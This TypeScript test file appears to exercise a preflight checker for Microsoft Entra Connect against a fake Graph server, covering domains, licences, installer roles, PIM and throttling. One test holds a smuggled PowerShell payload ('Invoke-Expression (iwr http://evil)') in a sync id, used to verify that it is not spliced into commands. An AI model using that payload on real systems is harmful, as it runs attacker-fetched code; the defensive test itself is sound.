import { runCloudPreflight, type CloudPreflightOptions } from "../../src/preflight/cloud";
import { synchronizationUnavailableAt } from "../../src/preflight/cloud/run-cloud-preflight";
import { CheckFailedError, InputError } from "../../src/support/errors";
import {
  compliantTenant,
  GA_ID,
  HIA_ID,
  INSTALLER_ID,
  INSTALLER_UPN,
  PLAN_P1,
  startGraphTestServer,
  type FakeTenant,
  type GraphTestServer,
  type ServerBehaviour,
} from "./graph-test-server";

const TOKEN = "test-token-0123456789";
let server: GraphTestServer | undefined;

afterEach(async () => {
  await server?.close();
  server = undefined;
});

async function run(tenant: FakeTenant, options: Partial<CloudPreflightOptions> = {}, behaviour: ServerBehaviour = {}) {
  server = await startGraphTestServer(tenant, TOKEN, behaviour);
  return runCloudPreflight({
    graphUrl: server.url,
    ca: server.ca,
    token: TOKEN,
    installer: INSTALLER_UPN,
    upnSuffixes: ["contoso.com"],
    objectCount: 1000,
    ...options,
  });
}

/** FLOW_FREE's Power Automate plan (licensing-service-plan-reference): no Entra ID plan. */
const FLOW_VIRAL = {
  servicePlanId: "50e68c76-46c6-4674-81f9-75456511b170",
  servicePlanName: "FLOW_P2_VIRAL",
  provisioningStatus: "Success",
  appliesTo: "User",
} as const;

const statusById = (checks: readonly { id: string; status: string }[]): Record<string, string> =>
  Object.fromEntries(checks.map((c) => [c.id, c.status]));
const messageOf = (checks: readonly { id: string; message: string }[], id: string): string | undefined =>
  checks.find((c) => c.id === id)?.message;

describe("runCloudPreflight against a local Graph", () => {
  it("passes every check for a compliant tenant and returns the data it decided from", async () => {
    const result = await run(compliantTenant());
    expect(statusById(result.checks)).toEqual({
      "cloud-verified-domain": "pass",
      "cloud-upn-suffix-coverage": "pass",
      "cloud-object-limit": "pass",
      "cloud-block-soft-match": "pass",
      "cloud-block-hard-match-takeover": "pass",
      "cloud-installer-role": "pass",
      "cloud-admin-mfa": "pass",
    });
    expect(result.verifiedCustomDomains).toEqual(["contoso.com"]);
    expect(result.installer).toEqual({
      userPrincipalName: INSTALLER_UPN,
      userId: INSTALLER_ID,
      direct: ["Global Administrator"],
      viaGroup: [],
      eligibleNotActive: [],
      eligibleViaGroup: [],
    });
    expect(result.checks.every((c) => c.requirement && c.category)).toBe(true);
    expect(server?.authorizations.every((a) => a === `Bearer ${TOKEN}`)).toBe(true);
  });

  it("reports which UPN suffixes the verified domains cover, parents included", async () => {
    const result = await run(compliantTenant(), { upnSuffixes: ["contoso.com", "EU.Contoso.com", "contoso.local"] });
    expect(result.upnSuffixCoverage).toEqual([
      { suffix: "contoso.com", coveredBy: "contoso.com" },
      { suffix: "eu.contoso.com", coveredBy: "contoso.com" },
      { suffix: "contoso.local" },
    ]);
    expect(messageOf(result.checks, "cloud-upn-suffix-coverage")).toBe(
      "UPN suffixes not verified in the tenant: contoso.local (verified: contoso.com, eu.contoso.com (by contoso.com)). Users with these suffixes would sign in as *.onmicrosoft.com. Breaks requirement cloud.verified-domain: A verified custom domain in the tenant. Fix: verify each suffix as a custom domain, or change those users' UPNs to a verified suffix before the first sync.",
    );
  });

  it("fails without a verified custom domain, and the object limit with it above 50,000 objects", async () => {
    const tenant = {
      ...compliantTenant(),
      verifiedDomains: [{ name: "contoso.onmicrosoft.com", isInitial: true, isDefault: true, type: "Managed" }],
    };
    const result = await run(tenant, { objectCount: 60_000, upnSuffixes: [] });
    expect(statusById(result.checks)["cloud-verified-domain"]).toBe("fail");
    expect(messageOf(result.checks, "cloud-verified-domain")).toBe(
      "The tenant has no verified custom domain (only contoso.onmicrosoft.com): synchronised users would sign in as *.onmicrosoft.com and the tenant keeps its lowest object limit. Breaks requirement cloud.verified-domain: A verified custom domain in the tenant. Fix: add the forest's UPN suffix as a custom domain in the Entra admin center and verify it with its DNS TXT record.",
    );
    expect(messageOf(result.checks, "cloud-object-limit")).toBe(
      "60,000 objects: above 50,000 objects: the tenant needs a verified custom domain (limit 300,000). Missing: the tenant has no verified custom domain. The tenant's directory quota: 1,520 of 300,000 objects used (cloud-created and soft-deleted objects count too), 298,480 free. Breaks requirement cloud.object-limit: The forest's object count within the tenant's object limit. Fix: verify a custom domain first.",
    );
    expect(result.checks.some((c) => c.id === "cloud-upn-suffix-coverage")).toBe(false);
  });

  it("above 500,000 objects: detects Entra ID P1 from the SKUs' service plans, not SKU names, and reads the directory quota", async () => {
    // AAD_PREMIUM_FACULTY (Microsoft Entra ID P1 for faculty, skuId 30fc3c36-5a95-4956-ba57-c09c2a600bb9) carries the
    // AAD_PREMIUM service plan (licensing-service-plan-reference); no list of SKU names knows every such SKU.
    const faculty = {
      ...compliantTenant(),
      skus: [
        { skuPartNumber: "AAD_PREMIUM_FACULTY", capabilityStatus: "Enabled", prepaidUnits: { enabled: 900 }, servicePlans: [PLAN_P1] },
      ],
      directorySizeQuota: { used: 1520, total: 1_000_000 },
    };
    const passing = await run(faculty, { objectCount: 600_000 });
    expect(statusById(passing.checks)["cloud-object-limit"]).toBe("pass");
    expect(passing.licences).toEqual([{ skuPartNumber: "AAD_PREMIUM_FACULTY", licence: "Microsoft Entra ID P1" }]);
    expect(passing.directoryQuota).toEqual({ used: 1520, total: 1_000_000 });
    expect(server?.requests).toContain("GET /beta/organization/11111111-2222-3333-4444-555555555555?$select=directorySizeQuota");
    expect(
      server?.requests.some((r) =>
        r.startsWith("GET /v1.0/subscribedSkus?$select=skuPartNumber,capabilityStatus,prepaidUnits,servicePlans"),
      ),
    ).toBe(true);
    await server?.close();
    const noLicence = {
      ...faculty,
      skus: [{ skuPartNumber: "FLOW_FREE", capabilityStatus: "Enabled", prepaidUnits: { enabled: 10000 }, servicePlans: [FLOW_VIRAL] }],
    };
    const failing = await run(noLicence, { objectCount: 600_000 });
    expect(statusById(failing.checks)["cloud-object-limit"]).toBe("fail");
    expect(messageOf(failing.checks, "cloud-object-limit")).toContain(
      "Missing: no subscribed SKU carries an Entra ID P1 or P2 service plan (AAD_PREMIUM, AAD_PREMIUM_P2).",
    );
  });

  it("above 500,000 objects with a licence: the default quota still needs a support request (warn)", async () => {
    const result = await run(compliantTenant(), { objectCount: 600_000 });
    expect(statusById(result.checks)["cloud-object-limit"]).toBe("warn");
    expect(messageOf(result.checks, "cloud-object-limit")).toBe(
      "600,000 objects: above 500,000 objects: a licence alone is not enough: the tenant needs a paid licence (Microsoft Entra ID P1, Microsoft Entra ID P2, Microsoft 365, Enterprise Mobility + Security), a verified custom domain and a support request to Microsoft to raise its quota. The tenant holds Microsoft Entra ID P2 (AAD_PREMIUM_P2). The tenant's directory quota: 1,520 of 300,000 objects used (cloud-created and soft-deleted objects count too), 298,480 free. The quota leaves too little room for the forest (objects this forest already synchronised count in \"used\"). Fix: open a support request to Microsoft to raise the tenant's directory quota to at least 601,520 objects before the first sync.",
    );
  });

  it("says when the directory quota could not be read (beta refused), and the run goes on", async () => {
    const result = await run(compliantTenant(), { objectCount: 400_000 }, { forbidden: /^\/beta\/organization/ });
    expect(result.directoryQuota).toEqual({
      notRead: "Microsoft Graph refused GET /beta/organization/{id}?$select=directorySizeQuota (HTTP 403 Authorization_RequestDenied)",
    });
    expect(statusById(result.checks)["cloud-object-limit"]).toBe("warn");
    expect(messageOf(result.checks, "cloud-object-limit")).toContain(
      "The tenant's directory quota could not be read (Microsoft Graph refused GET /beta/organization/{id}?$select=directorySizeQuota (HTTP 403 Authorization_RequestDenied)); cloud-created and soft-deleted objects count against it too.",
    );
    expect(statusById(result.checks)["cloud-installer-role"]).toBe("pass");
    await server?.close();
    const noQuota = await run({ ...compliantTenant(), directorySizeQuota: undefined }, { objectCount: 1_000 });
    expect(noQuota.directoryQuota).toEqual({
      notRead: 'Microsoft Graph answered GET /beta/organization/{id}?$select=directorySizeQuota without a numeric "used" and "total"',
    });
  });

  it("ignores a suspended licence", async () => {
    const tenant = {
      ...compliantTenant(),
      skus: [{ skuPartNumber: "SPE_E3", capabilityStatus: "Suspended", prepaidUnits: { enabled: 0 }, servicePlans: [PLAN_P1] }],
    };
    const result = await run(tenant, { objectCount: 700_000 });
    expect(statusById(result.checks)["cloud-object-limit"]).toBe("fail");
  });

  it("fails each match feature that is off, with the command that turns it on", async () => {
    const tenant = { ...compliantTenant(), features: { blockSoftMatchEnabled: false } };
    const result = await run(tenant);
    expect(messageOf(result.checks, "cloud-block-soft-match")).toBe(
      "blockSoftMatchEnabled is false: Soft match (joining cloud objects to AD objects by UPN or SMTP address) is allowed. Breaks requirement match.block: Soft match and hard-match takeover blocked in the tenant. Fix (once migration matching is done): Connect-MgGraph -Scopes OnPremDirectorySynchronization.ReadWrite.All; Update-MgDirectoryOnPremiseSynchronization -OnPremisesDirectorySynchronizationId 'aaaaaaaa-bbbb-cccc-dddd-eeeeeeeeeeee' -Features @{ BlockSoftMatchEnabled = $true }",
    );
    expect(messageOf(result.checks, "cloud-block-hard-match-takeover")).toBe(
      "blockCloudObjectTakeoverThroughHardMatchEnabled is not set: Hard-match takeover of cloud objects (AD overwriting a cloud object, its password hash included) is allowed. Breaks requirement match.block: Soft match and hard-match takeover blocked in the tenant. Fix (once migration matching is done): Connect-MgGraph -Scopes OnPremDirectorySynchronization.ReadWrite.All; Update-MgDirectoryOnPremiseSynchronization -OnPremisesDirectorySynchronizationId 'aaaaaaaa-bbbb-cccc-dddd-eeeeeeeeeeee' -Features @{ BlockCloudObjectTakeoverThroughHardMatchEnabled = $true }",
    );
  });
});

describe("the installer's role", () => {
  const GROUP = "00000000-0000-0000-0000-00000000g001";
  const withRoles = (assignments: FakeTenant["roleAssignments"], extra: Partial<FakeTenant> = {}): FakeTenant => ({
    ...compliantTenant(),
    roleAssignments: assignments,
    ...extra,
  });
  const roleMessage = async (tenant: FakeTenant) => {
    const result = await run(tenant);
    const check = result.checks.find((c) => c.id === "cloud-installer-role");
    return `${check?.status}: ${check?.message}`;
  };

  it("warns for Hybrid Identity Administrator: the Health agent installs disabled", async () => {
    expect(await roleMessage(withRoles([{ principalId: INSTALLER_ID, roleDefinitionId: HIA_ID }]))).toBe(
      "warn: installer@contoso.com holds Hybrid Identity Administrator (directly), not Global Administrator: the Connect Health agent installs disabled; for AD FS or PingFederate federation add Domain Name Administrator. Fix: install as a Global Administrator, or enable the Health agent afterwards.",
    );
  });

  it("fails a role held only through a group, naming the group", async () => {
    const tenant = withRoles([{ principalId: GROUP, roleDefinitionId: GA_ID }], { memberships: { [INSTALLER_ID]: [GROUP] } });
    expect(await roleMessage(tenant)).toBe(
      'fail: installer@contoso.com holds no installer role directly. It holds Global Administrator through group "Tier0 Admins", but the installer does not walk group membership. Breaks requirement install-account.role: Installer holds Global Administrator or Hybrid Identity Administrator, assigned directly. Fix: assign Global Administrator or Hybrid Identity Administrator to the user directly.',
    );
  });

  it("does not count a group the installer is not a member of, nor a role scoped to an administrative unit", async () => {
    const tenant = withRoles([
      { principalId: GROUP, roleDefinitionId: GA_ID },
      { principalId: INSTALLER_ID, roleDefinitionId: GA_ID, directoryScopeId: "/administrativeUnits/au-1" },
    ]);
    expect(await roleMessage(tenant)).toBe(
      "fail: installer@contoso.com holds neither Global Administrator nor Hybrid Identity Administrator. Breaks requirement install-account.role: Installer holds Global Administrator or Hybrid Identity Administrator, assigned directly. Fix: assign Global Administrator (or Hybrid Identity Administrator) to the user directly, or install with an account that holds it.",
    );
  });

  it("reports a PIM-eligible role that is not active", async () => {
    const tenant = withRoles([], { roleEligibilities: [{ principalId: INSTALLER_ID, roleDefinitionId: GA_ID }] });
    expect(await roleMessage(tenant)).toBe(
      "warn: installer@contoso.com is eligible for Global Administrator in Privileged Identity Management but the role is not active. Fix: activate the role in PIM before you start the Connect wizard.",
    );
  });

  it("fails a role the installer is PIM-eligible for only through a group: activated, it still comes through the group", async () => {
    const tenant = withRoles([], {
      roleEligibilities: [{ principalId: GROUP, roleDefinitionId: GA_ID }],
      memberships: { [INSTALLER_ID]: [GROUP] },
    });
    expect(await roleMessage(tenant)).toBe(
      'fail: installer@contoso.com holds no installer role directly. It is eligible in PIM for Global Administrator through group "Tier0 Admins", but the installer does not walk group membership (an activated group eligibility still gives the role through the group). Breaks requirement install-account.role: Installer holds Global Administrator or Hybrid Identity Administrator, assigned directly. Fix: assign Global Administrator or Hybrid Identity Administrator to the user directly.',
    );
    await server?.close();
    const result = await run(tenant);
    expect(result.installer?.eligibleViaGroup).toEqual([{ role: "Global Administrator", group: "Tier0 Admins" }]);
    expect(result.installer?.eligibleNotActive).toEqual([]);
  });

  it("ignores a group eligibility of a group the installer is not in, and names both kinds of group role next to a direct eligibility", async () => {
    const notMember = withRoles([], { roleEligibilities: [{ principalId: GROUP, roleDefinitionId: GA_ID }] });
    expect(await roleMessage(notMember)).toMatch(/^fail: installer@contoso\.com holds neither Global Administrator nor /);
    await server?.close();
    const tenant = withRoles([{ principalId: GROUP, roleDefinitionId: HIA_ID }], {
      roleEligibilities: [
        { principalId: INSTALLER_ID, roleDefinitionId: HIA_ID },
        { principalId: GROUP, roleDefinitionId: GA_ID },
      ],
      memberships: { [INSTALLER_ID]: [GROUP] },
    });
    expect(await roleMessage(tenant)).toBe(
      'warn: installer@contoso.com is eligible for Hybrid Identity Administrator in Privileged Identity Management but the role is not active. It holds Hybrid Identity Administrator through group "Tier0 Admins" and is eligible in PIM for Global Administrator through group "Tier0 Admins", but the installer does not walk group membership (an activated group eligibility still gives the role through the group). Fix: activate the role in PIM before you start the Connect wizard.',
    );
  });

  it("refuses an installer that does not exist in the tenant", async () => {
    await expect(run(compliantTenant(), { installer: "nobody@contoso.com" })).rejects.toThrow(
      new InputError(
        "--installer nobody@contoso.com: no such user in the tenant. Give the user principal name of the account that runs the Connect wizard.",
      ),
    );
  });
});

describe("a tenant without Entra ID P2: PIM answers AadPremiumLicenseRequired", () => {
  // Graph answers every PIM eligibility read of a tenant without Entra ID P2 or ID Governance with HTTP 400
  // AadPremiumLicenseRequired (maester365/maester#1421, Galvnyz/M365-Assess#117): PIM is not checked, the run goes on.
  const p1Only = (extra: Partial<FakeTenant> = {}): FakeTenant => ({
    ...compliantTenant(),
    skus: [{ skuPartNumber: "AAD_PREMIUM", capabilityStatus: "Enabled", prepaidUnits: { enabled: 50 }, servicePlans: [PLAN_P1] }],
    ...extra,
  });

  it("reports PIM as not checked with the reason, and still decides the installer's role from active assignments", async () => {
    const result = await run(p1Only());
    const check = result.checks.find((c) => c.id === "cloud-installer-role");
    expect(check?.status).toBe("pass");
    expect(check?.message).toBe(
      "installer@contoso.com holds Global Administrator, assigned directly and active. Not checked: Microsoft Graph refused the PIM eligibility read (HTTP 400 AadPremiumLicenseRequired): the tenant has no Microsoft Entra ID P2 or ID Governance licence, so Privileged Identity Management (and any PIM-eligible role) was not checked.",
    );
    expect(result.installer?.pimNotChecked).toMatch(/AadPremiumLicenseRequired/);
    expect(result.installer?.eligibleNotActive).toEqual([]);
    expect(statusById(result.checks)["cloud-block-soft-match"]).toBe("pass");
    expect(server?.requests.some((r) => r.startsWith("GET /v1.0/roleManagement/directory/roleEligibilitySchedules?"))).toBe(true);
  });

  it("a Hybrid Identity Administrator in a P1 tenant still warns, naming what was not checked", async () => {
    const result = await run(p1Only({ roleAssignments: [{ principalId: INSTALLER_ID, roleDefinitionId: HIA_ID }] }));
    const check = result.checks.find((c) => c.id === "cloud-installer-role");
    expect(check?.status).toBe("warn");
    expect(check?.message).toMatch(
      /Fix: install as a Global Administrator, or enable the Health agent afterwards\. Not checked: .*AadPremiumLicenseRequired/,
    );
  });

  it("a 403 on the eligibility read is still a missing permission (exit 2), not a licence gap", async () => {
    await expect(run(p1Only(), {}, { forbidden: /roleEligibilitySchedules/ })).rejects.toThrow(
      /the token lacks the permission RoleEligibilitySchedule\.Read\.Directory\./,
    );
  });
});

describe("Graph failure modes", () => {
  it("401: a token Graph rejects is a could-not-check error that never shows the token", async () => {
    server = await startGraphTestServer(compliantTenant(), TOKEN);
    const error = await runCloudPreflight({ graphUrl: server.url, ca: server.ca, token: "wrong-secret-token" }).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(CheckFailedError);
    expect((error as Error).message).toBe(
      "Microsoft Graph refused GET /organization (HTTP 401 InvalidAuthenticationToken: Access token validation failure. Invalid audience.): the token is missing, expired or not issued for Microsoft Graph. Sign in again (az login) or put a fresh Graph token in the --token-env variable.",
    );
    expect((error as Error).message).not.toContain("wrong-secret-token");
  });

  it("403: names the permission the token lacks", async () => {
    await expect(run(compliantTenant(), {}, { forbidden: /subscribedSkus/ })).rejects.toThrow(
      new CheckFailedError(
        "Microsoft Graph refused GET /subscribedSkus (HTTP 403 Authorization_RequestDenied: Insufficient privileges to complete the operation.): the token lacks the permission Organization.Read.All. Grant it to the app or the signed-in account (admin consent), then run again.",
      ),
    );
    await server?.close();
    await expect(run(compliantTenant(), {}, { forbidden: /roleEligibilitySchedules/ })).rejects.toThrow(
      /the token lacks the permission RoleEligibilitySchedule\.Read\.Directory\./,
    );
  });

  it("429: waits for Retry-After and retries", async () => {
    const behaviour = { throttle: { path: /subscribedSkus/, times: 2, retryAfter: "1" } };
    const started = Date.now();
    const result = await run(compliantTenant(), {}, behaviour);
    expect(Date.now() - started).toBeGreaterThanOrEqual(2000);
    expect(result.licences).toHaveLength(1);
    expect(server?.requests.filter((r) => r.startsWith("GET /v1.0/subscribedSkus"))).toHaveLength(3);
  });

  it("429: gives up when Retry-After is longer than the bound, without waiting", async () => {
    const started = Date.now();
    await expect(
      run(compliantTenant(), { maxRetryAfterSeconds: 5 }, { throttle: { path: /organization/, times: 1, retryAfter: "120" } }),
    ).rejects.toThrow(
      new CheckFailedError(
        "Microsoft Graph throttled GET /organization?$select=id,displayName,verifiedDomains (HTTP 429): it asked to wait 120 s, more than the limit of 5 s. Run the check again later.",
      ),
    );
    expect(Date.now() - started).toBeLessThan(5000);
  });

  it("429: gives up after the retry budget", async () => {
    await expect(
      run(compliantTenant(), { maxRetries: 1 }, { throttle: { path: /organization/, times: 5, retryAfter: "0" } }),
    ).rejects.toThrow(/still throttled after 1 retries/);
  });

  it("follows @odata.nextLink through every page", async () => {
    const tenant = compliantTenant();
    const others = Array.from({ length: 7 }, (_, i) => ({ principalId: `other-${i}`, roleDefinitionId: GA_ID }));
    const group = "00000000-0000-0000-0000-00000000g001";
    const paged = {
      ...tenant,
      roleAssignments: [...others, { principalId: group, roleDefinitionId: GA_ID }],
      memberships: { [INSTALLER_ID]: [group] },
    };
    const result = await run(paged, {}, { pageSize: 2 });
    expect(result.installer?.viaGroup).toEqual([{ role: "Global Administrator", group: "Tier0 Admins" }]);
    const pages = server?.requests.filter(
      (r) =>
        r.startsWith("GET /v1.0/roleManagement/directory/roleAssignments?") &&
        decodeURIComponent(r.replace(/\+/g, " ")).includes(`roleDefinitionId eq '${GA_ID}'`),
    );
    // Four pages, read twice: for the installer's group roles and for the holders cloud-admin-mfa checks.
    expect(pages).toHaveLength(8);
  });

  it("does not follow @odata.nextLink to another host: the token stays with --graph-url", async () => {
    const tenant = { ...compliantTenant(), skus: [...compliantTenant().skus, ...compliantTenant().skus] };
    const paging = run(tenant, {}, { pageSize: 1, nextLinkHost: "127.0.0.2:8443" });
    await expect(paging).rejects.toThrow(
      new CheckFailedError(
        "Microsoft Graph paged GET /subscribedSkus?$select=skuPartNumber,capabilityStatus,prepaidUnits,servicePlans to another host (https://127.0.0.2:8443); the token is not sent there. Check --graph-url.",
      ),
    );
  });

  it("refuses a graph URL that is not https", async () => {
    await expect(runCloudPreflight({ graphUrl: "http://127.0.0.1:1", token: TOKEN })).rejects.toThrow(
      new InputError(
        '--graph-url "http://127.0.0.1:1" is not https: the token is only ever sent over TLS. Use https://graph.microsoft.com.',
      ),
    );
  });

  it("refuses bad inputs before calling Graph", async () => {
    await expect(runCloudPreflight({ graphUrl: "https://127.0.0.1:1", token: TOKEN, objectCount: -1 })).rejects.toThrow(
      new InputError("--object-count must not be negative, got -1."),
    );
    await expect(runCloudPreflight({ graphUrl: "https://127.0.0.1:1", token: TOKEN, upnSuffixes: ["contoso com"] })).rejects.toThrow(
      new InputError('--upn-suffixes: "contoso com" is not a domain name. List DNS suffixes such as contoso.com, comma-separated.'),
    );
  });
});

describe("GET /directory/onPremisesSynchronization refused or hostile", () => {
  // v1.0 reference onpremisesdirectorysynchronization-get: "Application: Not supported"; delegated
  // OnPremDirectorySynchronization.Read.All, and "Global Administrator is the only role supported for this operation".
  it("an app-only token: both match checks are not checked (warn) with the reason; the run goes on", async () => {
    const result = await run(compliantTenant(), {}, { appOnlyToken: true });
    const statuses = statusById(result.checks);
    expect(statuses["cloud-block-soft-match"]).toBe("warn");
    expect(statuses["cloud-block-hard-match-takeover"]).toBe("warn");
    expect(statuses["cloud-installer-role"]).toBe("pass");
    expect(messageOf(result.checks, "cloud-block-soft-match")).toContain(
      "Could not check blockSoftMatchEnabled: Microsoft Graph refused GET /directory/onPremisesSynchronization (HTTP 403): it supports no application permission",
    );
    expect(messageOf(result.checks, "cloud-block-soft-match")).toContain("by a Global Administrator");
    expect(result.synchronization).toBeUndefined();
  });

  it("a delegated token of a user without Global Administrator: both match checks are not checked (warn), naming the role", async () => {
    const result = await run(compliantTenant(), {}, { signedInWithoutGlobalAdministrator: true });
    const statuses = statusById(result.checks);
    expect(statuses["cloud-block-soft-match"]).toBe("warn");
    expect(statuses["cloud-block-hard-match-takeover"]).toBe("warn");
    expect(statuses["cloud-installer-role"]).toBe("pass");
    expect(messageOf(result.checks, "cloud-block-soft-match")).toContain("HTTP 403");
    expect(messageOf(result.checks, "cloud-block-soft-match")).toContain(
      "a delegated sign-in with OnPremDirectorySynchronization.Read.All by a Global Administrator, the only role its reference page supports",
    );
    expect(result.synchronization).toBeUndefined();
  });

  // onpremisesdirectorysynchronization-get: "Global service only" (includes/global-only.md). National cloud roots from
  // "Microsoft Graph national cloud deployments" (learn.microsoft.com/graph/deployments).
  it("a national cloud --graph-url: both match checks are could-not-check with that reason, and Graph is not asked", () => {
    expect(synchronizationUnavailableAt("https://graph.microsoft.us")).toBe(
      '--graph-url is Microsoft Graph for US Government L4 (GCC High), a national cloud: GET /directory/onPremisesSynchronization exists in the Microsoft Graph global service (graph.microsoft.com) only: its v1.0 reference page says "Global service only"; it was not asked.',
    );
    expect(synchronizationUnavailableAt("https://DOD-Graph.microsoft.us/")).toContain("US Government L5 (DOD)");
    expect(synchronizationUnavailableAt("https://microsoftgraph.chinacloudapi.cn")).toContain("China operated by 21Vianet");
    expect(synchronizationUnavailableAt("https://graph.microsoft.com")).toBeUndefined();
    expect(synchronizationUnavailableAt("https://127.0.0.1:8443")).toBeUndefined();
  });

  it("a Graph without the resource (a national cloud answering 400 BadRequest): could-not-check, the run goes on", async () => {
    const result = await run(compliantTenant(), {}, { nationalCloud: true });
    expect(statusById(result.checks)).toMatchObject({
      "cloud-block-soft-match": "warn",
      "cloud-block-hard-match-takeover": "warn",
      "cloud-installer-role": "pass",
    });
    expect(messageOf(result.checks, "cloud-block-hard-match-takeover")).toBe(
      'Could not check blockCloudObjectTakeoverThroughHardMatchEnabled: Microsoft Graph at this --graph-url has no GET /directory/onPremisesSynchronization (HTTP 400 BadRequest): it exists in the Microsoft Graph global service (graph.microsoft.com) only: its v1.0 reference page says "Global service only". Check it by hand in the Entra admin center or with Get-MgDirectoryOnPremiseSynchronization; requirement match.block: Soft match and hard-match takeover blocked in the tenant.',
    );
  });

  // Issue 14 item 4: a sync id that is not a GUID never reaches the suggested PowerShell; the command reads the id itself.
  it("a sync id that is not a GUID is not spliced into the Fix command", async () => {
    const hostile = "x; Invoke-Expression (iwr http://evil)";
    const body = JSON.stringify({ value: [{ id: hostile, features: { blockSoftMatchEnabled: false } }] });
    const result = await run(compliantTenant(), {}, { raw: { path: /onPremisesSynchronization/, status: 200, body } });
    const message = messageOf(result.checks, "cloud-block-soft-match") ?? "";
    expect(message).not.toContain("Invoke-Expression");
    expect(message).toContain("-OnPremisesDirectorySynchronizationId (Get-MgDirectoryOnPremiseSynchronization).Id -Features");
  });

  it("the group membership call is an advanced query: ConsistencyLevel eventual and $count=true", async () => {
    await run(compliantTenant());
    expect(server?.requests.some((r) => /transitiveMemberOf\/microsoft\.graph\.group\?\$count=true/.test(r))).toBe(true);
  });
});
